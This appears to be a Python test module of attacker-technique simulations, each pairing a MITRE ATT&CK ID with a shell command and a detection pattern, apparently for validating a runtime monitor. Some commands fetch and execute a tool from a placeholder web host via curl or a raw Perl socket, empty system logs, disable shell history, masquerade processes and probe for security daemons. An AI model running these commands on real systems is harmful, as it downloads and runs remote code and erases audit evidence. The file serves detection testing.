"""Bringing tools, hiding them, and leaving no trace."""

from attacks.attack import Attack as A
from attacks.places import CONNECT, SOCKETS, WEB

ATTACKS = [
    A(
        "T1105",
        "a program that came along is run",
        f"curl -s -o /tmp/.x {WEB}/tool && chmod +x /tmp/.x && /tmp/.x",
        ("exec", r"^/tmp/\.x$"),
    ),
    A(
        "T1105",
        "a program that came along, without curl",
        f'perl {SOCKETS} \'{CONNECT % 8080}syswrite S,"GET /tool HTTP/1.0\\r\\n\\r\\n";local $/;$b=<S>;$b=~s/^.*?\\r\\n\\r\\n//s;'
        'open O,">/tmp/.y";print O $b;close O;chmod 0755,"/tmp/.y";exec "/tmp/.y"\'',
        ("exec", r"^/tmp/\.y$"),
    ),
    A(
        "T1027.004",
        "a program is compiled on the spot",
        "export PATH=/usr/bin:/bin; echo 'int main(){return 0;}' >/tmp/a.c && gcc -o /tmp/a.out /tmp/a.c && /tmp/a.out",
        ("exec", r"^/tmp/a\.out$"),
    ),
    A(
        "T1036.005",
        "a program under a name of the kernel's threads",
        "cp /bin/sleep /var/tmp/kworker && /var/tmp/kworker 0.1",
        ("exec", r"/kworker$"),
    ),
    A(
        "T1036.003",
        "a shell under another name",
        "ln -s /bin/sh /tmp/httpd && /tmp/httpd -c true",
        ("exec", r"/(dash|sh|httpd)$"),
    ),
    A(
        "T1036.009",
        "a process that leaves its family",
        "(setsid sh -c 'nproc; hostname' >/dev/null 2>&1 &)",
        ("exec", r"/(setsid|hostname)$"),
    ),
    A(
        "T1564.001",
        "a hidden directory",
        "mkdir -p /tmp/.cache && echo x >/tmp/.cache/.data",
        ("open", r"/\.cache/\.data$"),
    ),
    A(
        "T1070.002",
        "the system's logs are emptied",
        "for f in /var/log/dpkg.log /var/log/apt/history.log; do : >$f; done",
        ("open", r"^/var/log/"),
        root=True,
    ),
    A(
        "T1070.004",
        "a tool is deleted after its work",
        "cp /bin/true /tmp/tool9; /tmp/tool9; rm -f /tmp/tool9",
        ("exec", r"^/tmp/tool9$"),
    ),
    A(
        "T1070.003",
        "no history is to be kept",
        "unset HISTFILE; ln -sf /dev/null /tmp/.bash_history && history 2>/dev/null; true",
        ("exec", r"/ln$"),
    ),
    A("T1070.006", "a file gets an old date", "touch -d 2020-01-01 /tmp/.old", ("exec", r"/touch$")),
    A(
        "T1222.002",
        "what was closed is opened to all",
        "mkdir -p /tmp/open && chmod 0777 /tmp/open",
        ("exec", r"/chmod$"),
    ),
    A(
        "T1562.001",
        "looking for a guard to end",
        "pkill -0 -x falco; pkill -0 -x auditd; true",
        ("exec", r"/(pkill|pgrep)$"),
    ),
    A(
        "T1497.001",
        "is this a machine or a sandbox?",
        "cat /sys/class/dmi/id/product_name /proc/cpuinfo >/dev/null; true",
        ("exec", r"/cat$"),
    ),
]
